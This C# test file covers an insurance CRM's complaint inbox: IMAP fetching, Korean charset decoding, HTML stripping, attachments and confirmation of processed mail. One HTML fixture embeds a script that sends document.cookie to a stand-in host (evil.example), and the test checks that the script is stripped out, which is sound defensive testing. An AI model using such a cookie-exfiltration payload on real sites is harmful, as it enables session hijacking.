using System.Text;
using static InsureCrm.Tests.Voc.Mail.VocMailTestKit;

namespace InsureCrm.Tests.Voc.Mail;

/// <summary>
/// The VOC inbox against the real IMAP server of the test script: Korean mail in the encodings Korean mailers
/// still send, HTML-only mail with a script, a PDF attachment, a missing or wrong charset label, and the
/// two-phase read (a mail not confirmed is fetched again; a confirmed one is not).
/// </summary>
public sealed class VocMailboxTests
{
    private const string Complaint = "보험금 청구가 거절되었습니다. 설명도 없이 똠방각하처럼 처리하니 불만입니다.";

    [Fact]
    public async Task Fetch_EucKrBase64WithEncodedWordSubject_DecodesSubjectSenderAndBody()
    {
        var options = await NewFolderAsync();
        // 똠 is one of CP949's extra syllables: Korean mailers send it under the EUC-KR label.
        var body = Cp949.GetBytes(Complaint);
        var subject = Convert.ToBase64String(Cp949.GetBytes("보험금 지급 불만"));
        var name = Convert.ToBase64String(Cp949.GetBytes("홍길동"));
        await DeliverAsync(options, Raw($"""
            From: =?EUC-KR?B?{name}?= <hong@example.com>
            To: voc@insurer.example
            Subject: =?EUC-KR?B?{subject}?=
            Date: Mon, 30 Nov 2026 10:15:00 +0900
            Message-ID: <euckr-1@example.com>
            MIME-Version: 1.0
            Content-Type: text/plain; charset=EUC-KR
            Content-Transfer-Encoding: base64
            """, Encoding.ASCII.GetBytes(Base64Lines(body))));

        var batch = await Mailbox(options).FetchAsync();

        var mail = batch.Messages.ShouldHaveSingleItem();
        mail.Subject.ShouldBe("보험금 지급 불만");
        mail.SenderName.ShouldBe("홍길동");
        mail.SenderAddress.ShouldBe("hong@example.com");
        mail.MessageId.ShouldBe("euckr-1@example.com");
        mail.Text.Trim().ShouldBe(Complaint);
        mail.CharsetLabel.ShouldBe("euc-kr");
        mail.Charset.ShouldBe("euc-kr");
        mail.BodyWasHtml.ShouldBeFalse();
        mail.Attachments.ShouldBeEmpty();
    }

    [Fact]
    public async Task Fetch_Iso2022Kr_DecodesBody()
    {
        var options = await NewFolderAsync();
        var text = "자동이체 출금일을 바꾸고 싶습니다. 연락 부탁드립니다.";
        var iso2022kr = CodePagesEncodingProvider.Instance.GetEncoding(50225)!;
        var body = iso2022kr.GetBytes(text);
        body.ShouldAllBe(b => b < 0x80);
        await DeliverAsync(options, Raw($"""
            From: kim@example.com
            Subject: =?ISO-2022-KR?B?{Convert.ToBase64String(iso2022kr.GetBytes("고객"))}?=
            Message-ID: <iso2022kr-1@example.com>
            MIME-Version: 1.0
            Content-Type: text/plain; charset=ISO-2022-KR
            Content-Transfer-Encoding: 7bit
            """, [.. body, (byte)'\r', (byte)'\n']));

        var mail = (await Mailbox(options).FetchAsync()).Messages.ShouldHaveSingleItem();

        mail.Text.Trim().ShouldBe(text);
        mail.Charset.ShouldBe("iso-2022-kr");
        mail.Subject.ShouldBe("고객");
    }

    [Fact]
    public async Task Fetch_HtmlOnlyWithScript_GivesTheReadableTextWithoutScriptOrStyle()
    {
        var options = await NewFolderAsync();
        var html = """
            <html><head><title>제목</title><style>p { color: red }</style><script>alert('head')</script></head>
            <body><p>안녕하세요,&nbsp;<b>해지환급금</b>이 안내와 다릅니다.</p><div>금액: 1,200,000원 &lt; 안내 1,500,000원</div>
            <script type="text/javascript">document.location='http://evil.example/?c='+document.cookie</script>
            <!-- <p>숨은 주석</p> --><p onclick="steal()">답변 부탁드립니다 &amp; 감사합니다</p></body></html>
            """;
        var qp = Encoding.ASCII.GetBytes(QuotedPrintable(Encoding.UTF8.GetBytes(html)));
        await DeliverAsync(options, Raw("""
            From: "Lee" <lee@example.com>
            Subject: html only
            MIME-Version: 1.0
            Content-Type: text/html; charset=utf-8
            Content-Transfer-Encoding: quoted-printable
            """, qp));

        var mail = (await Mailbox(options).FetchAsync()).Messages.ShouldHaveSingleItem();

        mail.BodyWasHtml.ShouldBeTrue();
        mail.Text.ShouldBe("안녕하세요, 해지환급금이 안내와 다릅니다.\n금액: 1,200,000원 < 안내 1,500,000원\n답변 부탁드립니다 & 감사합니다");
        mail.Text.ShouldNotContain("alert");
        mail.Text.ShouldNotContain("cookie");
        mail.Text.ShouldNotContain("color");
        mail.Text.ShouldNotContain("숨은");
    }

    [Fact]
    public async Task Fetch_PdfAttachment_ListsNameTypeAndSizeAndKeepsTheTextBody()
    {
        var options = await NewFolderAsync();
        var pdf = Encoding.ASCII.GetBytes("%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n").Concat(new byte[3000]).ToArray();
        await DeliverAsync(options, Raw($"""
            From: park@example.com
            Subject: =?UTF-8?B?{Convert.ToBase64String(Encoding.UTF8.GetBytes("진단서 첨부"))}?=
            MIME-Version: 1.0
            Content-Type: multipart/mixed; boundary="b1"

            --b1
            Content-Type: text/plain; charset=utf-8
            Content-Transfer-Encoding: 8bit

            진단서를 첨부합니다. 실손 청구 재심사 요청드립니다.
            --b1
            Content-Type: application/pdf; name="diagnosis.pdf"
            Content-Disposition: attachment; filename*=UTF-8''%EC%A7%84%EB%8B%A8%EC%84%9C.pdf
            Content-Transfer-Encoding: base64

            {Base64Lines(pdf)}--b1--
            """, []));

        var mail = (await Mailbox(options).FetchAsync()).Messages.ShouldHaveSingleItem();

        mail.Subject.ShouldBe("진단서 첨부");
        mail.Text.Trim().ShouldBe("진단서를 첨부합니다. 실손 청구 재심사 요청드립니다.");
        var attachment = mail.Attachments.ShouldHaveSingleItem();
        attachment.FileName.ShouldBe("진단서.pdf");
        attachment.ContentType.ShouldBe("application/pdf");
        attachment.Size.ShouldBe(pdf.Length);
        attachment.Content.ShouldBeNull();
    }

    [Fact]
    public async Task Fetch_NoCharsetLabelOrAWrongOne_DetectsUtf8ThenCp949()
    {
        var options = await NewFolderAsync();
        var cp949Subject = Cp949.GetBytes("Subject: 라벨 없는 메일");
        await DeliverAsync(options,
            Raw([.. "From: a@example.com\r\nMessage-ID: <nolabel-cp949@example.com>\r\nMIME-Version: 1.0\r\nContent-Type: text/plain\r\nContent-Transfer-Encoding: 8bit\r\n"u8, .. cp949Subject],
                Cp949.GetBytes(Complaint)),
            Raw("""
                From: b@example.com
                Message-ID: <nolabel-utf8@example.com>
                Subject: utf-8 without a label
                MIME-Version: 1.0
                Content-Type: text/plain
                Content-Transfer-Encoding: 8bit
                """, Encoding.UTF8.GetBytes(Complaint)),
            Raw("""
                From: c@example.com
                Message-ID: <wronglabel@example.com>
                Subject: says utf-8, is cp949
                MIME-Version: 1.0
                Content-Type: text/plain; charset=utf-8
                Content-Transfer-Encoding: 8bit
                """, Cp949.GetBytes(Complaint)));

        var mails = (await Mailbox(options).FetchAsync()).Messages.ToDictionary(m => m.MessageId!);

        mails["nolabel-cp949@example.com"].Text.Trim().ShouldBe(Complaint);
        mails["nolabel-cp949@example.com"].Charset.ShouldBe("cp949");
        mails["nolabel-cp949@example.com"].CharsetLabel.ShouldBeNull();
        mails["nolabel-cp949@example.com"].Subject.ShouldBe("라벨 없는 메일");
        mails["nolabel-utf8@example.com"].Text.Trim().ShouldBe(Complaint);
        mails["nolabel-utf8@example.com"].Charset.ShouldBe("utf-8");
        mails["wronglabel@example.com"].Text.Trim().ShouldBe(Complaint);
        mails["wronglabel@example.com"].CharsetLabel.ShouldBe("utf-8");
        mails["wronglabel@example.com"].Charset.ShouldBe("cp949");
    }

    [Fact]
    public async Task Fetch_AMegabyteOfText_KeepsItWhole()
    {
        var options = await NewFolderAsync();
        var line = "납입 내역이 맞지 않습니다 0123456789 abcdefghij\n";
        var text = string.Concat(Enumerable.Repeat(line, 1_048_576 / Encoding.UTF8.GetByteCount(line) + 1));
        await DeliverAsync(options, Raw("""
            From: big@example.com
            Subject: long
            MIME-Version: 1.0
            Content-Type: text/plain; charset=utf-8
            Content-Transfer-Encoding: base64
            """, Encoding.ASCII.GetBytes(Base64Lines(Encoding.UTF8.GetBytes(text)))));

        var mail = (await Mailbox(options).FetchAsync()).Messages.ShouldHaveSingleItem();

        Encoding.UTF8.GetByteCount(mail.Text).ShouldBeGreaterThan(1_048_576);
        mail.Text.ShouldBe(text);
    }

    [Fact]
    public async Task MarkProcessed_OnlyConfirmedMailsStopComing_WhenSeenFlagMarksThem()
    {
        var options = await NewFolderAsync();
        await DeliverAsync(options, Plain("<one@example.com>", "첫 번째"), Plain("<two@example.com>", "두 번째"));
        var mailbox = Mailbox(options);

        var first = await mailbox.FetchAsync();
        // A crash here (nothing confirmed): the next run gets both again.
        var again = await mailbox.FetchAsync();
        await mailbox.MarkProcessedAsync([first.Messages.Single(m => m.MessageId == "one@example.com").Id]);
        var after = await mailbox.FetchAsync();

        first.Messages.Count.ShouldBe(2);
        again.Messages.Select(m => m.MessageId).ShouldBe(["one@example.com", "two@example.com"]);
        after.Messages.Select(m => m.MessageId).ShouldBe(["two@example.com"]);
        (await CountAsync(options.Imap.Folder)).ShouldBe((2, 1));
    }

    [Fact]
    public async Task MarkProcessed_MovesToTheProcessedFolder_AndStaleHandlesAreIgnored()
    {
        var options = await NewFolderAsync(processedFolder: "-done");
        await DeliverAsync(options, Plain("<p1@example.com>", "하나"), Plain("<p2@example.com>", "둘"));
        var mailbox = Mailbox(options);

        var first = await mailbox.FetchAsync();
        await mailbox.MarkProcessedAsync([first.Messages[0].Id, "1:999999", "not-a-handle"]);
        var after = await mailbox.FetchAsync();
        await mailbox.MarkFailedAsync([after.Messages[0].Id]);

        after.Messages.Select(m => m.MessageId).ShouldBe(["p2@example.com"]);
        (await CountAsync(options.Imap.ProcessedFolder!)).Count.ShouldBe(1);
        // No failed folder configured: the refused mail stays, flagged, and is not fetched again.
        (await mailbox.FetchAsync()).Messages.ShouldBeEmpty();
        (await CountAsync(options.Imap.Folder)).ShouldBe((1, 1));
    }

    private static byte[] Plain(string messageId, string text) => Raw($"""
        From: someone@example.com
        Subject: test
        Message-ID: {messageId}
        MIME-Version: 1.0
        Content-Type: text/plain; charset=utf-8
        Content-Transfer-Encoding: base64
        """, Encoding.ASCII.GetBytes(Base64Lines(Encoding.UTF8.GetBytes(text))));

    private static string QuotedPrintable(byte[] bytes)
    {
        var sb = new StringBuilder();
        var column = 0;
        foreach (var b in bytes)
        {
            var piece = b == '\n' ? "\r\n" : b is >= 33 and <= 126 and not (byte)'=' || b == ' ' ? ((char)b).ToString() : $"={b:X2}";
            if (b != '\n' && column + piece.Length > 72)
            {
                sb.Append("=\r\n");
                column = 0;
            }
            sb.Append(piece);
            column = b == '\n' ? 0 : column + piece.Length;
        }
        return sb.ToString();
    }
}
